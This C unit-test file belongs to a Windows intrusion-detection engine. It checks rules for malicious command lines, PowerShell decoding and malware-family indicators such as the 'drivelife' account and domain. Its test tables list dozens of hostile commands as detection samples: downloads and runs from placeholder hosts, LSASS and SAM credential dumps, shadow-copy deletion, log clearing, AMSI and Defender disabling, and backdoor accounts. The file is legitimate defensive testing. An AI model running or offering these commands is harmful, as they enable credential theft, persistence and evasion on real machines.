/* Command lines: what each row of the profile is for and what it leaves alone; what commands do, noted as acts; words, families,
 * expressions and addresses, of which all that is made. */
#include "made_log.h"

#include "detect/commands.h"
#include "detect/family.h"
#include "detect/subject.h"
#include "detect/words.h"
#include "text/text.h"

#include <stdio.h>
#include <stdlib.h>
#include <time.h>

static arena mem;
static profile *facts;
static commands *rules;
static families *known;
static pattern_room *room;

static int set_up(void **state)
{
    arena_init(&mem, 0);
    status s = profile_open(getenv("SUYUAN_PROFILES"), &mem, &facts);
    if (status_is_ok(s))
        s = commands_new(facts, &mem, &rules);
    if (status_is_ok(s))
        s = families_new(facts, &mem, &known);
    room = pattern_room_new(&mem);
    if (!status_is_ok(s))
        print_error("%s\n", s.words);
    return status_is_ok(s) ? made_set_up(state) : -1;
}

static int tear_down(void **state)
{
    arena_done(&mem);
    return made_tear_down(state);
}

static bool says(const char *text, const char *looks)
{
    const command_rule *hits[COMMAND_HITS];
    size_t count = commands_judge(rules, room, text, hits);
    for (size_t i = 0; i < count; i++)
        if (strcmp(hits[i]->looks, looks) == 0)
            return true;
    return false;
}

static const struct { const char *looks, *text; } said[] = {
    { "encoded", "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A" }, { "encoded", "PowerShell.exe –EncodedCommand \"SQBFAFgAIAAoAE4AZQB3AC0A\"" },
    { "download-run", "powershell iex (new-object net.webclient).downloadstring('http://203.0.113.1/a')" },
    { "download", "certutil.exe -urlcache -split -f http://203.0.113.1/a.exe c:\\a.exe" }, { "download", "bitsadmin /transfer x http://203.0.113.1/a c:\\a" },
    { "encoded-kept", "powershell -ep bypass -c \"$x=(Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows' Debug).Debug; powershell -Win Hidden -enc $x\"" },
    { "hidden-shell", "powershell -w hidden -c x" }, { "split-shell", "cmd /c \"set A=power& call %A%shell -ep bypass\"" },
    { "portproxy", "netsh interface portproxy add v4tov4 listenport=65533 connectaddress=1.1.1.1 connectport=53" },
    { "firewall-open", "netsh.exe firewall add portopening tcp 65533 DNSd" }, { "firewall-off", "netsh advfirewall set allprofiles state off" },
    { "firewall-off", "ParameterBinding(Set-NetFirewallProfile): name=\"Enabled\"; value=\"False\"" },
    { "task-made", "schtasks /create /ru system /sc MINUTE /mo 50 /tn x /tr y" }, { "at-job", "at \\\\10.0.0.5 12:30 cmd" }, { "service-made", "sc \\\\DB2 create x binPath= c:\\x.exe" },
    { "user-made", "net user k8h3d Secret1 /add" }, { "group-made", "net localgroup administrators k8h3d /add" }, { "guest-on", "net user guest /active:yes" },
    { "run-key", "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y" },
    { "ifeo", "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\" /v Debugger /d cmd.exe" },
    { "logon-script", "reg add HKCU\\Environment /v UserInitMprLogonScript /d a.bat" }, { "lsass-dump", "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 668 a.dmp full" },
    { "lsass-dump", "procdump -ma lsass.exe x" }, { "lsass-dump", "rdrleakdiag.exe /p 668 /o . /fullmemdmp" }, { "hive-save", "reg save HKLM\\SAM sam.hiv" },
    { "ntds", "ntdsutil \"ac i ntds\" ifm \"create full c:\\a\" q q" }, { "ntds", "copy \\\\?\\GLOBALROOT\\x\\ntds.dit c:\\" }, { "log-cleared", "wevtutil cl Security" },
    { "log-cleared", "wmic nteventlog where filename='security' cleareventlog" }, { "shadow-delete", "vssadmin delete shadows /all /quiet" }, { "defender-off", "sc stop WinDefend" },
    { "defender-off", "net stop avp" }, { "av-removed", "wmic product where \"name like '%Eset%'\" call uninstall /nointeractive" }, { "audit-off", "auditpol /clear /y" },
    { "miner", "taskmgr.exe -o stratum+tcp://pool:3333 -u x" }, { "miner", "x.exe -a rx/0 -o 1.2.3.4:80" }, { "share-open", "net share c$=c:" }, { "output-share", "cmd /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1588 2>&1" },
    { "taskkill-mass", "schtasks /Delete /TN Mysa /F" }, { "psexec-source", "psexec.exe \\\\DB2 -s cmd" }, { "remote-wmic", "wmic /node:10.0.0.5 process list" },
    { "remote-task", "schtasks /create /s DB2 /tn x /tr y" }, { "script-proxy", "mshta http://203.0.113.1/a.hta" }, { "script-proxy", "jabber.exe /u /s /i:http://203.0.113.1/a .\\jabber.dll" },
    { "rdp-on", "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f" },
    { "lolbin", "rundll32.exe zipfldr.dll,RouteTheCall c:\\x.exe" }, { "lolbin", "wuauclt.exe /UpdateDeploymentProvider C:\\x.dll /RunHandlerComServer" },
    { "lolbin", "wuauclt.exe /UpdateDeploymentProvider C:\\Temp\\UpdateDeploymentProvider.dll /ClassId x /RunHandlerComServer" },
    { "script-from-cache", "wscript.exe \"C:\\Users\\a\\AppData\\Local\\Microsoft\\Windows\\INetCache\\x.vbs\"" }, { "decoded-file", "certutil -decode a.txt a.exe" },
    { "shell-copy", "copy /y c:\\windows\\system32\\cmd.exe c:\\windows\\temp\\cm.exe" }, { "downgrade", "powershell -version 2 -c x" }, { "attack-tool", "Invoke-Kerberoast" },
    { "amsi-off", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')" }, { "obfuscated", "(\"{2}{0}{1}\"-f 'a','b','c')" }, { "obfuscated", "N`ew-O`bj`ect N`et.W`ebCl`ient" },
    { "process-create", "wmic process call create calc.exe" }, { "service-failure", "sc failure x command= \"c:\\x.exe\"" }, { "service-hidden", "sc.exe sdset x D:(D;;DCLCWPDTSD;;;IU)" },
    { "wmi-made", "Set-WmiInstance -Class __EventFilter" }, { "helper-made", "netsh add helper c:\\a.dll" }, { "class-command", "reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d cmd.exe" },
    { "uac-off", "reg add hklm\\software\\microsoft\\windows\\currentversion\\policies\\system /v EnableLUA /t REG_DWORD /d 0x0 /f" }, { "boot-signing-off", "bcdedit /set testsigning on" },
    { "log-off", "wevtutil sl Security /e:false" }, { "shadow-made", "vssadmin create shadow /for=c:" }, { "password-search", "appcmd list apppool /text:processmodel.password" },
    { "password-prompt", "$host.ui.PromptForCredential('a','b','','')" }, { "spn-search", "setspn -T corp -Q */*" }, { "dsrm-password", "ntdsutil \"set dsrm password\" \"reset password on server null\"" },
    { "session-taken", "tscon 2 /dest:rdp-tcp#4" }, { "net-use", "net use \\\\DB2\\admin$ /user:admin x" }, { "remote-powershell", "Enter-PSSession -ComputerName DB2" },
    { "remote-dcom", "[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','DB2'))" }, { "tunnel", "plink.exe 203.0.113.5 -P 80 -C -R 127.0.0.3:4444:127.0.0.2:3389 -l t -pw t" },
    { "pipe-echo", "cmd.exe /c echo hgabms > \\\\.\\pipe\\hgabms" },
};

static void every_row_says_what_it_is_for(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof said / sizeof *said; i++)
        if (!says(said[i].text, said[i].looks))
            fail_msg("'%s' is not said of: %s", said[i].looks, said[i].text);
    for (const profile_node *row = profile_list(profile_root(facts, "commands"), "commands"); row; row = row->next) {
        bool covered = false;
        for (size_t i = 0; i < sizeof said / sizeof *said; i++)
            covered = covered || strcmp(said[i].looks, profile_text(row, "looks")) == 0;
        if (!covered)
            fail_msg("no command line shows what '%s' is for", profile_text(row, "looks"));
    }
}

static void ordinary_command_lines_say_nothing(void **state)
{
    (void)state;
    static const char *const ordinary[] = {
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=zh-CN", "cmd /c \"D:\\备份\\每日.bat\"",
        "powershell.exe -File D:\\scripts\\report.ps1", "net use Z: \\\\FILE1\\资料", "net user", "net localgroup administrators", "net share", "schtasks /query /fo csv", "sc query MSSQLSERVER", "reg query HKLM\\Software",
        "\"C:\\Windows\\system32\\wuauclt.exe\" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId 5f0ae1c2-98a1-4c10-9ed5-2b3b1a3c1c00 /RunHandlerComServer",
        "netsh interface ip show config", "netsh advfirewall show allprofiles", "wevtutil qe Security /c:1", "wmic os get caption", "ping 127.0.0.1 -n 5", "robocopy D:\\数据 E:\\备份 /MIR", "vssadmin list shadows",
        "rundll32.exe shell32.dll,Control_RunDLL C:\\Windows\\System32\\timedate.cpl", "msiexec /i \"C:\\下载\\office.msi\" /qn", "certutil -hashfile a.exe SHA256", "sqlcmd -S . -Q \"select 1\"", "ssh admin@10.0.0.5",
        "copy a.txt \\\\FILE1\\share\\", "auditpol /get /category:*", "bcdedit /enum", "tscon 1", "at", "format d: /q", "explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding",
        "C:\\Windows\\System32\\mshta.exe C:\\Program Files\\app\\help.hta", "regsvr32 /s C:\\Windows\\System32\\scrobj.dll", "powershell -Version 5.1 -c Get-Date", "git commit -e -m fix", "java -jar x.jar -o out.txt",
    };
    const command_rule *hits[COMMAND_HITS];
    for (size_t i = 0; i < sizeof ordinary / sizeof *ordinary; i++)
        if (commands_judge(rules, room, ordinary[i], hits))
            fail_msg("'%s' is said of: %s", hits[0]->looks, ordinary[i]);
}

static void command(made *m, const char *image, const char *line)
{
    made_event(m, SYSMON, 1, evtx_u32("ProcessId", 1000), evtx_str("Image", image), evtx_str("CommandLine", line), evtx_str("User", "DB1\\管理员"), evtx_str("ParentImage", "C:\\Windows\\System32\\cmd.exe"));
}

static void what_commands_do_is_noted_as_the_act_it_is(void **state)
{
    (void)state;
    made *m = made_begin();
    command(m, "C:\\Windows\\System32\\schtasks.exe", "schtasks /create /ru system /sc MINUTE /mo 50 /tn \"\\Microsoft\\windows\\Bluetooths\" /tr \"c:\\windows\\temp\\svchost.exe\" /F");
    command(m, "C:\\Windows\\System32\\netsh.exe", "netsh interface portproxy add v4tov4 listenport=65533 connectaddress=1.1.1.1 connectport=53");
    command(m, "C:\\Windows\\System32\\netsh.exe", "netsh firewall add portopening tcp 65533 DNSd");
    command(m, "C:\\Windows\\System32\\net.exe", "net user \"新 用户\" Passw0rd! /add");
    command(m, "C:\\Windows\\System32\\net.exe", "net localgroup administrators k8h3d /add");
    command(m, "C:\\Windows\\System32\\sc.exe", "sc \\\\DB2 create Ddriver binPath= \"C:\\Windows\\system32\\drivers\\svchost.exe\" start= auto");
    command(m, "C:\\Windows\\System32\\reg.exe", "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Ddriver /d c:\\windows\\system32\\drivers\\svchost.exe");
    command(m, "C:\\Windows\\System32\\net1.exe", "net1 user again x /add");      /* net.exe handed it on */
    made_read(m);
    const act *a = made_act(m, "task.create", 0);
    assert_fact(a, "name", "\\Microsoft\\windows\\Bluetooths");
    assert_fact(a, "command", "c:\\windows\\temp\\svchost.exe");
    assert_fact(a, "interval", "MINUTE 50");
    assert_fact(a, "runs_as", "system");
    assert_fact(a, "basis", "command");
    assert_fact(a, "by", "DB1\\管理员");
    assert_fact(made_act(m, "portproxy.change", 0), "listen", "*/65533");
    assert_fact(made_act(m, "portproxy.change", 0), "connect", "1.1.1.1/53");
    assert_fact(made_act(m, "firewall.change", 0), "rule", "DNSd");
    assert_int_equal(made_acts(m, "account.create"), 1);
    assert_fact(made_act(m, "account.create", 0), "account", "新 用户");
    assert_fact(made_act(m, "group.add", 0), "member", "k8h3d");
    assert_fact(made_act(m, "service.install", 0), "name", "Ddriver");
    assert_fact(made_act(m, "service.install", 0), "target", "DB2");
    assert_fact(made_act(m, "registry.autostart", 0), "value", "Ddriver");
    made_end(m);
}

static void commands_that_break_off_do_nothing(void **state)
{
    (void)state;
    static const char *const broken[] = {
        "schtasks /create ", "schtasks /create /tn", "net user a b /add", "net user  /add /add", "net localgroup administrators /add", "sc create binpath=", "sc create x binpath= ", "reg add currentversion\\run /v",
        "netsh interface portproxy add v4tov4 listenport=", "netsh firewall add portopening tcp", "netsh advfirewall firewall add rule name=", "schtasks /create \"\"\"\"\" /tn \"\\\"", "reg add \\currentversion\\run /d",
    };
    made *m = made_begin();
    for (size_t i = 0; i < sizeof broken / sizeof *broken; i++)
        command(m, "C:\\Windows\\System32\\tool.exe", broken[i]);
    char *words = malloc(20001);
    for (size_t i = 0; i < 20000; i++)
        words[i] = i % 2 ? ' ' : 'a';
    words[20000] = 0;
    memcpy(words, "schtasks /create /tn x /tr y ", 29);
    command(m, "C:\\Windows\\System32\\schtasks.exe", words);
    free(words);
    made_read(m);
    assert_int_equal(made_acts(m, "task.create"), 1);
    made_end(m);
}

static void encoded_commands_are_decoded_in_each_spelling(void **state)
{
    (void)state;
    static const char *const spelled[] = {
        "powershell -e SQBFAFgAIAAoAE4AZQB3ACkA", "powershell /ec SQBFAFgAIAAoAE4AZQB3ACkA", "powershell.exe -EnCoDeDcOmMaNd   SQBFAFgAIAAoAE4AZQB3ACkA", "powershell \"-enc\" SQBFAFgAIAAoAE4AZQB3ACkA",
        "powershell –enc \"SQBFAFgAIAAoAE4AZQB3ACkA\"", "x = [Convert]::FromBase64String('SUVYIChOZXcpIElFWA==')", "pwsh -enc 'SQBFAFgAIAAoAE4AZQB3ACkA'",
    };
    for (size_t i = 0; i < sizeof spelled / sizeof *spelled; i++) {
        const char *text = commands_decoded(spelled[i], &mem);
        if (!text || strncmp(text, "IEX (New)", 9) != 0)
            fail_msg("%s: '%s'", spelled[i], text ? text : "nothing");
    }
    assert_null(commands_decoded("git -e SQBFAFgAIAAo", &mem));
    assert_null(commands_decoded("", &mem));
}

static void what_is_encoded_twice_is_judged_by_what_runs(void **state)
{
    (void)state;
    made *m = made_begin();
    /* powershell -enc <net user k8h3d x1y2z3a4 /add> */
    command(m, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell -enc cABvAHcAZQByAHMAaABlAGwAbAAgAC0AZQBuAGMAIABiAGcAQgBsAEEASABRAEEASQBBAEIAMQBBAEgATQBBAFoAUQBCAHkAQQBDAEEAQQBhAHcAQQA0AEEARwBnAEEATQB3AEIAawBBAEMAQQBBAGUAQQBBAHgAQQBIAGsAQQBNAGcAQgA2AEEARABNAEEAWQBRAEEAMABBAEMAQQBBAEwAdwBCAGgAQQBHAFEAQQBaAEEAQQA9AA==");
    made_read(m);
    const act *a = made_act(m, "process.start", 0);
    assert_lists(a, "looks", "encoded");
    assert_lists(a, "looks", "user-made");
    assert_non_null(strstr(fact_of(a, "decoded"), "net user k8h3d"));
    assert_null(strstr(fact_of(a, "decoded"), "x1y2z3a4"));
    made_end(m);
}

static void every_sentence_that_profiles_ask_for_is_there(void **state)
{
    (void)state;
    char id[120];
    for (const profile_node *row = profile_list(profile_root(facts, "commands"), "commands"); row; row = row->next) {
        static const char *const forms[] = { "%s.command.title", "%s.command.text", "%s.script.title", "%s.script.text" };
        for (size_t i = 0; i < 4; i++) {
            snprintf(id, sizeof id, forms[i], profile_text(row, "finding"));
            if (!text_known(id))
                fail_msg("no sentence %s", id);
        }
        snprintf(id, sizeof id, "word.%s", profile_text(row, "looks"));
        if (!text_known(id))
            fail_msg("no word %s", id);
    }
    for (const profile_node *row = profile_list(profile_root(facts, "registry-points"), "points"); row; row = row->next) {
        const char *finding = profile_text(row, "finding");
        snprintf(id, sizeof id, strcmp(profile_text(row, "point"), "port-proxy") == 0 ? "%s.title" : "%s.registry.title", finding ? finding : "");
        if (finding && !text_known(id))
            fail_msg("no sentence %s", id);
    }
    for (const profile_node *row = profile_list(profile_root(facts, "chains"), "chains"); row; row = row->next) {
        snprintf(id, sizeof id, "word.%s", profile_text(row, "looks"));
        if (profile_text(row, "finding") && !text_known(id) && strcmp(profile_text(row, "severity"), "low") != 0)
            fail_msg("no word %s", id);
    }
}

static void expressions_cost_no_more_than_they_may(void **state)
{
    (void)state;
    char *text = malloc(PATTERN_TEXT * 2 + 1);
    static const char *const bricks[] = { "powershell ", "-enc ", "netsh firewall ", "schtasks /create ", "[char]", "a`b", "({0}", "\\\\", "http://", "rundll32 ", "\xe6\x8c\x96", "\xff\xfe" };
    struct timespec from, to;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &from);
    for (size_t b = 0; b < sizeof bricks / sizeof *bricks; b++) {
        size_t n = strlen(bricks[b]);
        for (size_t i = 0; i < PATTERN_TEXT * 2; i++)
            text[i] = bricks[b][i % n];
        text[PATTERN_TEXT * 2] = 0;
        const command_rule *hits[COMMAND_HITS];
        assert_true(commands_judge(rules, room, text, hits) <= COMMAND_HITS);
        commands_decoded(text, &mem);
    }
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &to);
    free(text);
    double seconds = (double)(to.tv_sec - from.tv_sec) + (double)(to.tv_nsec - from.tv_nsec) / 1e9;
    assert_true(seconds < 20);       /* a text that could cost minutes would; sanitizers make it slow */
}

static void padding_hides_nothing(void **state)
{
    (void)state;
    static const struct { const char *first, *padding, *last, *looks; } padded[] = {
        { "powershell ", " ", " -w hidden -c x", "hidden-shell" }, { "powershell ", "powershell ", " -w hidden -c x", "hidden-shell" }, { "powershell ", "-x ", " -enc SQBFAFgAIAAoAE4AZQB3AC0A", "encoded" },
        { "netsh ", " ", " interface portproxy add v4tov4", "portproxy" }, { "schtasks ", "/x ", " /create /tn x", "task-made" }, { "rundll32 ", "comsvcs.dll ", " minidump", "lsass-dump" },
        { "net user a ", "b ", " /add", "user-made" }, { "cmd /c ", "&& rem ", "&& vssadmin delete shadows", "shadow-delete" }, { "powershell ", "iex ", " downloadstring('http://x.example/')", "download-run" },
        { "x", "x", " stratum+tcp://a:1", "miner" },
    };
    for (size_t i = 0; i < sizeof padded / sizeof *padded; i++) {
        char text[PATTERN_TEXT + 1] = "";
        size_t len = (size_t)snprintf(text, sizeof text, "%s", padded[i].first), n = strlen(padded[i].padding);
        while (len + n + strlen(padded[i].last) < 8000)
            len += (size_t)snprintf(text + len, sizeof text - len, "%s", padded[i].padding);
        snprintf(text + len, sizeof text - len, "%s", padded[i].last);
        if (!says(text, padded[i].looks))
            fail_msg("'%s' is hidden by '%s'", padded[i].looks, padded[i].padding);
    }
}

static void letters_of_every_script_are_letters(void **state)
{
    (void)state;
    pattern *p;
    assert_true(status_is_ok(pattern_new(&mem, "user\\s+\\S+\\s+\\S+\\s.*/add", &p)));
    static const char *const texts[] = { "net user 新用户 密码 /add", "net user \xd0\x98\xd0\xb2\xd0\xb0\xd0\xbd x /add", "net user \xff\xfe x /add", "net user \xe6\x96 x /add", "net user a\xed\xa0\x80 x /add" };
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
        assert_true(pattern_matches(p, room, texts[i], strlen(texts[i])));
}

static void a_wrong_expression_is_told_with_its_place(void **state)
{
    (void)state;
    pattern *p;
    status s = pattern_new(&mem, "a(b", &p);
    assert_int_equal(s.code, STATUS_BAD_INPUT);
    assert_non_null(strstr(s.words, "a(b"));
}

static void words_are_found_whole_and_inside(void **state)
{
    (void)state;
    static const char *const words[] = { "he", "she", "hers", "his", "s", "矿池" };
    word_finder *f = word_finder_new(&mem, words, 6);
    words_found found;
    word_finder_scan(f, "uSHErs", 6, &found);
    assert_int_equal(found.bits[0], 1 | 2 | 4 | 16);
    word_finder_scan(f, "连接矿池!", strlen("连接矿池!"), &found);
    assert_int_equal(found.bits[0], 32);
    word_finder_scan(f, "", 0, &found);
    assert_false(found.any);
    size_t which;
    assert_true(word_finder_first(f, "ashes", 5, &which) && which == 0);
    assert_false(word_finder_first(f, "xyz", 3, &which));
    f = word_finder_new(&mem, words, 0);
    assert_false(word_finder_first(f, "she", 3, &which));

    word_table *t = word_table_new(&mem, 3);
    uint32_t id;
    word_table_put(t, "One", 1);
    word_table_put(t, "two", 2);
    word_table_put(t, "ONE", 3);
    assert_true(word_table_find(t, "oNe", 3, &id) && id == 1);
    assert_true(word_table_find(t, "two three", 3, &id) && id == 2);
    assert_false(word_table_find(t, "on", 2, &id));
    assert_false(word_table_find(t, "", 0, &id));
    assert_false(word_table_has(t, NULL));
}

static void the_finder_and_a_plain_search_agree(void **state)
{
    (void)state;
    const char *words[40];
    unsigned seed = 12345;
    for (int round = 0; round < 50; round++) {
        for (size_t w = 0; w < 40; w++) {
            char *word = arena_alloc(&mem, 8);
            size_t n = 1 + (seed = seed * 1103515245 + 12345) / 65536 % 5;
            for (size_t i = 0; i < n; i++)
                word[i] = "abc"[(seed = seed * 1103515245 + 12345) / 65536 % 3];
            words[w] = word;
            for (size_t v = 0; v < w; v++)      /* of equal words only the first is found */
                if (strcmp(words[v], word) == 0)
                    words[w] = "zzz";
        }
        char text[200];
        for (size_t i = 0; i < sizeof text - 1; i++)
            text[i] = "abcd"[(seed = seed * 1103515245 + 12345) / 65536 % 4];
        text[sizeof text - 1] = 0;
        words_found found;
        word_finder_scan(word_finder_new(&mem, words, 40), text, strlen(text), &found);
        for (size_t w = 0; w < 40; w++)
            assert_int_equal(words_found_has(&found, w), strstr(text, words[w]) != NULL);
    }
}

static void families_are_known_by_what_is_theirs(void **state)
{
    (void)state;
    assert_string_equal(families_file(known, "%w\\system32\\drivers\\taskmgr.exe").role, "miner");
    assert_null(families_file(known, "%w\\system32\\taskmgr.exe").family);
    assert_string_equal(families_file(known, "c:\\users\\a\\appdata\\roaming\\microsoft\\cred.ps1").family, "drivelife");
    assert_string_equal(families_domain(known, "V.Beahh.Com.").family, "drivelife");
    assert_string_equal(families_domain(known, "beahh.com").family, "drivelife");
    assert_null(families_domain(known, "beahh.com.example.net").family);
    assert_null(families_domain(known, "xbeahh.com").family);
    assert_null(families_domain(known, ".").family);
    assert_null(families_domain(known, "").family);
    assert_null(families_domain(known, NULL).family);
    assert_string_equal(families_port(known, 65533).family, "drivelife");
    assert_null(families_port(known, 65530).family);
    assert_string_equal(families_task_action(known, "blackball").family, "drivelife");
    assert_null(families_task_action(known, "blackballs.exe").family);
    assert_string_equal(families_hashes(known, "MD5=AA,SHA256=BDBFA96D17C2F06F68B3BCC84568CF445915E194F130B0DC2411805CF889B6CC,IMPHASH=0").family, "drivelife");
    assert_null(families_hashes(known, "SHA256=").family);
    assert_null(families_hashes(known, "SHA1=BDBFA96D17C2F06F68B3BCC84568CF445915E194").family);
    assert_string_equal(families_text(known, "x=2mWo17uXvG1BXpmdgv8v...").family, "drivelife");
    assert_string_equal(families_account(known, "K8H3D").family, "drivelife");
}

static void addresses_are_written_one_way(void **state)
{
    (void)state;
    static const struct { const char *text, *plain; bool local; } addresses[] = {
        { "10.0.0.1", "10.0.0.1", false }, { "::ffff:10.0.0.1", "10.0.0.1", false }, { "-", NULL, false }, { "", NULL, false }, { "127.0.0.1", NULL, true }, { "127.9.9.9", NULL, true },
        { "::ffff:127.0.0.1", NULL, true }, { "::1", NULL, true }, { "LOCAL", NULL, true }, { "本地", NULL, true }, { "0.0.0.0", NULL, false }, { "fe80::1%5", "fe80::1%5", false }, { "127.example.com", "127.example.com", false },
    };
    for (size_t i = 0; i < sizeof addresses / sizeof *addresses; i++) {
        bool local = false;
        const char *plain = detect_address(addresses[i].text, &local);
        assert_int_equal(local, addresses[i].local);
        assert_string_equal(plain ? plain : "none", addresses[i].plain ? addresses[i].plain : "none");
    }
    assert_true(address_is_public("8.8.8.8") && address_is_public("2001:db8::1"));
    assert_false(address_is_public("10.1.1.1") || address_is_public("172.31.0.1") || address_is_public("192.168.1.1") || address_is_public("169.254.0.1") || address_is_public("100.64.0.1") ||
                 address_is_public("fe80::1") || address_is_public("DB1") || address_is_public(""));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_row_says_what_it_is_for),
        cmocka_unit_test(ordinary_command_lines_say_nothing),
        cmocka_unit_test(what_commands_do_is_noted_as_the_act_it_is),
        cmocka_unit_test(commands_that_break_off_do_nothing),
        cmocka_unit_test(encoded_commands_are_decoded_in_each_spelling),
        cmocka_unit_test(what_is_encoded_twice_is_judged_by_what_runs),
        cmocka_unit_test(every_sentence_that_profiles_ask_for_is_there),
        cmocka_unit_test(expressions_cost_no_more_than_they_may),
        cmocka_unit_test(padding_hides_nothing),
        cmocka_unit_test(letters_of_every_script_are_letters),
        cmocka_unit_test(a_wrong_expression_is_told_with_its_place),
        cmocka_unit_test(words_are_found_whole_and_inside),
        cmocka_unit_test(the_finder_and_a_plain_search_agree),
        cmocka_unit_test(families_are_known_by_what_is_theirs),
        cmocka_unit_test(addresses_are_written_one_way),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
